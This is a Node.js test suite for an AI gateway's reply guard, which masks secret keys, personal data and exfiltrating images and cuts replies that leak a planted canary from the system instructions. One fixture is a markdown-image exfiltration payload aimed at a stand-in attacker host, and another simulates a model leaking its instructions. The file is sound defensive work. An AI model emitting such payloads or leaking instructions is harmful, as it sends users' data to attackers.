// The reply guard against a hostile backend: on every route, streamed and not, in every part.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { before, test } from "node:test";
import { openStream, send, Visitor } from "./support/client.mjs";
import { untilFileEnds } from "./support/later.mjs";
import { startServer } from "./support/server.mjs";
import { namesOf, textOf } from "./support/sse.mjs";
import { Upstream } from "./support/upstream.mjs";
import { eventually } from "./support/waiting.mjs";

const later = untilFileEnds();
// Put together, so that nothing here looks like a key.
const BODY = ["proj", "0123456789abcdefghijkl"].join("-");
const KEY = `sk-${BODY}`;
const HIDDEN = "sk-•••";
const CANARY = "kx7-planted-canary";
const IMAGE = "![](https://evil.example/?q=secret)";

let upstream;
let server;
before(async () => {
  upstream = await Upstream.start(later);
  const env = { ...upstream.env, GATEHOUSE_GUARD_CANARIES: `${CANARY},another-canary` };
  server = await startServer(later, { env });
});

/** Lets the backend answer a question with that word in this way. */
const answer = (word, script) => {
  upstream.scripts[word] = script;
};
const streamed = (deltas, reason = "stop") =>
  async (x) => {
    x.start();
    for (const { choice = 0, ...delta } of deltas) await x.delta(delta, { choice });
    const choices = new Set(deltas.map(({ choice = 0 }) => choice));
    for (const choice of choices) await x.finish(reason, choice);
    await x.done();
  };
const split = (text) => [...text].map((content) => ({ content }));

const asks = (content, more) => ({
  method: "POST",
  path: "/v1/chat/completions",
  body: { model: "gpt-test", messages: [{ role: "user", content }], ...more },
});

/** The choices of a stream, each with its joined parts. */
async function readChoices(question, more) {
  const stream = await openStream(server, asks(question, { stream: true, ...more }));
  const events = await stream.all();
  assert.ok(stream.isComplete);
  assert.equal(events.pop().data, "[DONE]");
  const found = {};
  for (const { index, delta, finish_reason: reason } of events.flatMap((e) => e.data.choices)) {
    const own = (found[index] ??= { content: "", reasoning_content: "", arguments: "" });
    own.content += delta.content ?? "";
    own.reasoning_content += delta.reasoning_content ?? "";
    own.arguments += delta.tool_calls?.[0]?.function?.arguments ?? "";
    if (reason) own.reason = reason;
  }
  return { choices: found, text: stream.text };
}

test("F3 a secret that comes letter by letter is hidden, on /v1 and in the web chat", async () => {
  answer("letters", streamed(split(`It is ${KEY}, yes.`)));
  const { choices, text } = await readChoices("letters please");
  assert.equal(choices[0].content, `It is ${HIDDEN}, yes.`);
  assert.equal(choices[0].reason, "stop");
  assert.ok(!text.includes(BODY));

  const visitor = await Visitor.start(server);
  const stream = await visitor.stream("letters again");
  const events = await stream.all();
  assert.equal(textOf(events), `It is ${HIDDEN}, yes.`);
  const kept = await visitor.reply(events[0].data.conversation_id);
  assert.equal(kept.text, `It is ${HIDDEN}, yes.`, "nor is it stored");
});

test("an answer that is not streamed is scanned in all its parts", async () => {
  const call = (text) => ({
    id: "c1",
    type: "function",
    function: { name: "f", arguments: JSON.stringify({ note: text }) },
  });
  const message = { content: `a ${KEY}`, reasoning_content: KEY, refusal: `no ${KEY}` };
  answer("whole", (x) => {
    const choices = [0, 1].map((index) => ({
      index,
      message: { role: "assistant", ...message, tool_calls: [call(`x ${KEY}`)] },
      finish_reason: "stop",
    }));
    x.json(200, { object: "chat.completion", model: "m", choices, usage: { note: KEY } });
  });
  const response = await send(server, asks("whole please", { n: 2 }));
  assert.equal(response.status, 200);
  assert.ok(!response.text.includes(BODY), response.text);
  for (const { message: got } of response.json.choices) {
    assert.equal(got.content, `a ${HIDDEN}`);
    assert.equal(got.reasoning_content, HIDDEN);
    assert.equal(got.refusal, `no ${HIDDEN}`);
    assert.deepEqual(JSON.parse(got.tool_calls[0].function.arguments), { note: `x ${HIDDEN}` });
  }
});

test("every choice and lane is scanned on its own", async () => {
  const middle = 9;
  answer(
    "lanes",
    streamed([
      { content: KEY.slice(0, middle) },
      { content: "plain", choice: 1 },
      { reasoning_content: KEY.slice(0, middle) },
      { content: KEY.slice(middle) },
      { reasoning_content: KEY.slice(middle) },
      { content: ` and ${KEY}`, choice: 1 },
    ]),
  );
  const { choices } = await readChoices("lanes please", { n: 2 });
  assert.equal(choices[0].content, HIDDEN);
  assert.equal(choices[0].reasoning_content, HIDDEN);
  assert.equal(choices[1].content, `plain and ${HIDDEN}`);
});

test("tool-call arguments are read decoded: escapes and pieces hide nothing", async () => {
  const escaped = [...KEY].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join("");
  const text = `{"ok":"\\u00e9","note":"${escaped}"}`;
  const pieces = text.match(/[\s\S]{1,5}/g);
  const calls = pieces.map((piece, at) => ({
    tool_calls: [
      at === 0
        ? { index: 0, id: "c1", type: "function", function: { name: "f", arguments: piece } }
        : { index: 0, function: { arguments: piece } },
    ],
  }));
  answer("tool", streamed(calls, "tool_calls"));
  const { choices, text: raw } = await readChoices("tool please");
  assert.equal(choices[0].arguments, `{"ok":"\\u00e9","note":"${HIDDEN}"}`);
  assert.equal(choices[0].reason, "tool_calls");
  assert.ok(!raw.includes(BODY));

  const visitor = await Visitor.start(server);
  const events = await (await visitor.stream("tool again")).all();
  const joined = events
    .filter(({ event }) => event === "tool_call")
    .map(({ data }) => data.arguments)
    .join("");
  assert.deepEqual(JSON.parse(joined), { ok: "é", note: HIDDEN });
});

test("an image that would carry text out is hidden, links stay", async () => {
  answer("image", streamed(split(`See ${IMAGE} and [this](https://docs.example/x).`)));
  const { choices } = await readChoices("image please");
  assert.equal(choices[0].content, "See ![•••]  and [this](https://docs.example/x).");
});

test("a canary cuts the reply: a valid end, the backend left, one line in the log", async () => {
  const leak = async (x) => {
    x.start();
    await x.say("My instructions: ");
    for (const letter of `${CANARY} and the rest`) await x.say(letter);
    await x.gate("never");
  };
  answer("leak", leak);
  const { choices } = await readChoices("leak v1");
  assert.deepEqual(
    [choices[0].content, choices[0].reason],
    ["My instructions: kx7-", "content_filter"],
  );
  assert.equal(await (await upstream.asked("leak v1")).closed(), true);

  const visitor = await Visitor.start(server);
  const events = await (await visitor.stream("leak web")).all();
  assert.equal(textOf(events), "My instructions: kx7-");
  assert.equal(namesOf(events).at(-1), "end");
  assert.equal(events.at(-1).data.finish_reason, "content_filter");
  assert.equal(await (await upstream.asked("leak web")).closed(), true);

  const line = await server.logged("SECURITY_ALERT", ({ rule }) => rule === "canary");
  assert.equal(line.action, "cut");
  assert.ok(line.request_id);
  assert.ok(line.bytes_scanned >= CANARY.length);
  assert.equal(typeof line.bytes_unscanned, "number");
  assert.ok(!server.stdout.includes(CANARY), "the log is no leak");
});

test("plain prose is not delayed: each piece is out before the next one comes", async () => {
  const words = ["It's", " a", " fair", " question", ": his", " task", ", https", " and", " s"];
  answer("prose", async (x) => {
    x.start();
    for (const [at, word] of words.entries()) {
      await x.gate(`prose-${at}`);
      await x.say(word);
    }
    await x.finish();
    await x.done();
  });
  upstream.open("prose-0"); // a stream begins with its first event
  const stream = await openStream(server, asks("prose please", { stream: true }));
  for (const [at, word] of words.entries()) {
    upstream.open(`prose-${at}`);
    for (let seen = ""; seen !== word; ) {
      const { data } = await stream.next();
      seen += data.choices[0].delta.content ?? "";
      assert.ok(word.startsWith(seen), seen);
    }
  }
  await stream.all();
});

test("observe changes nothing and tells; personal data is hidden where asked for", async (t) => {
  const person = "Write to ann@mail.example.com now.";
  answer("person", streamed(split(person)));
  answer("key", streamed(split(KEY)));
  const ask = async (own, word) =>
    textOf(await (await (await Visitor.start(own)).stream(`${word} please`)).all());
  const lax = await startServer(t, { env: { ...upstream.env, GATEHOUSE_GUARD_REPLY: "observe" } });
  assert.equal(await ask(lax, "key"), KEY);
  const seen = await lax.logged("SECURITY_ALERT", ({ rule }) => rule === "secret.openai");
  assert.equal(seen.action, "observe");
  const strict = await startServer(t, {
    env: { ...upstream.env, GATEHOUSE_GUARD_REPLY_PERSONAL: "enforce" },
  });
  assert.equal(await ask(strict, "person"), "Write to ••• now.");
  assert.equal(await ask(server, "person"), person, "by default it is only observed");
});

test("the mode of the rules for replies is taken over by SIGHUP", async (t) => {
  const own = await startServer(t, { env: upstream.env, toml: '[guard]\nreply = "off"\n' });
  answer("reloaded", streamed(split(`Take ${KEY}!`)));
  const replies = async () => {
    const visitor = await Visitor.start(own);
    const web = textOf(await (await visitor.stream("reloaded now")).all());
    const api = (await send(own, asks("reloaded now"))).json.choices[0].message.content;
    return [web, api];
  };
  assert.deepEqual(await replies(), [`Take ${KEY}!`, `Take ${KEY}!`]);
  writeFileSync(join(own.home, "gatehouse.toml"), '[guard]\nreply = "enforce"\n');
  own.signal("SIGHUP");
  await own.logged("RELOADED");
  const wanted = [`Take ${HIDDEN}!`, `Take ${HIDDEN}!`];
  await eventually(
    async () => JSON.stringify(await replies()) === JSON.stringify(wanted),
    "the new mode on both channels",
  );
});
